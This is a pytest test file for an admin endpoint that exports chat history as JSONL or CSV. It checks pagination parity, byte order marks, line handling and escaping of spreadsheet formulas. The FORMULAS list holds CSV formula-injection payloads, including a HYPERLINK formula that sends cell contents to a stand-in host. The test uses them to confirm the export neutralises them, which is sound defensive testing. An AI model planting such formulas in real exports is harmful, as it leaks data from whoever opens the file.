"""The history as a file, held against the history as pages."""

import codecs
import csv
import io
import json
import random
from typing import Any

import httpx2
import pytest

from tests.admin.rows import KeptTurn, keep, some_turns
from tests.http.test_bodies import code_of
from tests.support.running_service import Person, RunningService

EXPORT = "/api/v1/admin/history/export"
TURNS = sorted(some_turns(random.Random(5), turns=450), key=lambda turn: turn.id, reverse=True)
FILTERS: list[dict[str, Any]] = [
    {},
    {"status": "failed"},
    {"username": TURNS[0].username.upper()},
    {"username": "nobody-there"},
    {"rating": "-1", "from": TURNS[-1].created_at.isoformat()},
    {"model": "qwen3", "to": TURNS[100].created_at.isoformat()},
    {"user_id": str(TURNS[3].user_id), "conversation_id": str(TURNS[3].conversation_id)},
]


@pytest.fixture(scope="module")
async def administrator(service: RunningService, shared_database_url: str) -> Person:
    await keep(shared_database_url, TURNS)
    return await service.administrator()


async def export(administrator: Person, **params: Any) -> httpx2.Response:
    answer = await administrator.client.get(EXPORT, params=params)
    assert answer.status_code == 200, answer.text
    return answer


def table(answer: httpx2.Response) -> list[dict[str, str]]:
    """Return the rows as a spreadsheet has them, which reads UTF-8 by its byte order mark."""
    assert answer.content.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def history(administrator: Person, filters: dict[str, Any]) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor: dict[str, str] = {}
    while True:
        found = (
            await administrator.client.get("/api/v1/admin/history", params=filters | {"limit": 200} | cursor)
        ).json()
        items += found["items"]
        if found["next_cursor"] is None:
            return items
        cursor = {"cursor": found["next_cursor"]}


@pytest.mark.parametrize("filters", FILTERS, ids=str)
async def test_jsonl_is_what_the_pages_have(administrator: Person, filters: dict[str, Any]) -> None:
    answer = await export(administrator, format="jsonl", **filters)
    assert answer.headers["content-type"] == "application/jsonl"
    assert answer.headers["content-disposition"] == 'attachment; filename="history.jsonl"'
    assert [json.loads(line) for line in answer.text.split("\n")[:-1]] == await history(administrator, filters)


@pytest.mark.parametrize("filters", FILTERS, ids=str)
async def test_csv_has_a_row_for_each_turn(administrator: Person, filters: dict[str, Any]) -> None:
    answer = await export(administrator, format="csv", **filters)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    rows = table(answer)
    wanted = await history(administrator, filters)
    assert [row["id"] for row in rows] == [turn["id"] for turn in wanted]
    assert [row["prompt"] for row in rows] == [turn["prompt"]["content"] for turn in wanted]
    assert [row["rating"] for row in rows] == [str((turn["feedback"] or {}).get("rating", "")) for turn in wanted]
    assert [row["reply"] for row in rows] == [(turn["reply"] or {}).get("content", "") for turn in wanted]


FORMULAS = (
    '=HYPERLINK("http://x.example?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1",
)
HARMLESS = ('a "quote", a comma', "two\r\nlines\n=in one cell", "'=quoted", "1-2", "おはよう", "")


async def test_a_text_that_looks_like_a_formula_is_none(administrator: Person, service: RunningService) -> None:
    person = await service.person()
    conversation_id = await person.conversation(title="=1+2")
    for text in (*FORMULAS, *filter(None, HARMLESS)):
        await person.say(conversation_id, text)
    answer = await export(administrator, format="csv", user_id=person.id)
    rows = table(answer)[::-1]
    prompts = [row["prompt"] for row in rows]
    assert prompts == [*(f"'{text}" for text in FORMULAS), *filter(None, HARMLESS)]
    assert {row["conversation_title"] for row in rows} == {"'=1+2"}


async def test_a_table_begins_with_one_byte_order_mark_or_without(administrator: Person) -> None:
    """Excel in Japan reads UTF-8 by the mark alone; some programs take it for a part of the first name."""
    for filters in ({}, {"username": "nobody-there"}):
        whole = (await export(administrator, format="csv", **filters)).content
        bare = (await export(administrator, format="csv", bom="false", **filters)).content
        assert whole == codecs.BOM_UTF8 + bare
        assert bare.startswith(b"id,created_at,")
        assert bare.endswith(b"\r\n")


async def test_a_line_is_a_line_to_every_reader(administrator: Person, service: RunningService) -> None:
    """`str.splitlines` splits at more than line feeds, and clients read lines with it."""
    person, said = await service.person(), "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg\x1dh\x1ei\r\nj"
    await person.say(await person.conversation(title=said), said)
    exports = (
        await export(administrator, format="jsonl", user_id=person.id),
        await person.client.get("/api/v1/export"),
    )
    for answer in exports:
        (line,) = answer.text.splitlines()
        assert json.loads(line) == json.loads(answer.content)
        assert said in (json.loads(line).get("title"), json.loads(line).get("conversation_title"))


async def test_a_format_that_is_not_there_is_said(administrator: Person) -> None:
    answer = await administrator.client.get(EXPORT, params={"format": "xlsx"})
    assert code_of(answer, 422) == "invalid_request"


def test_the_rows_are_more_than_a_page() -> None:
    assert len(TURNS) > 2 * 200
    assert isinstance(TURNS[0], KeptTurn)
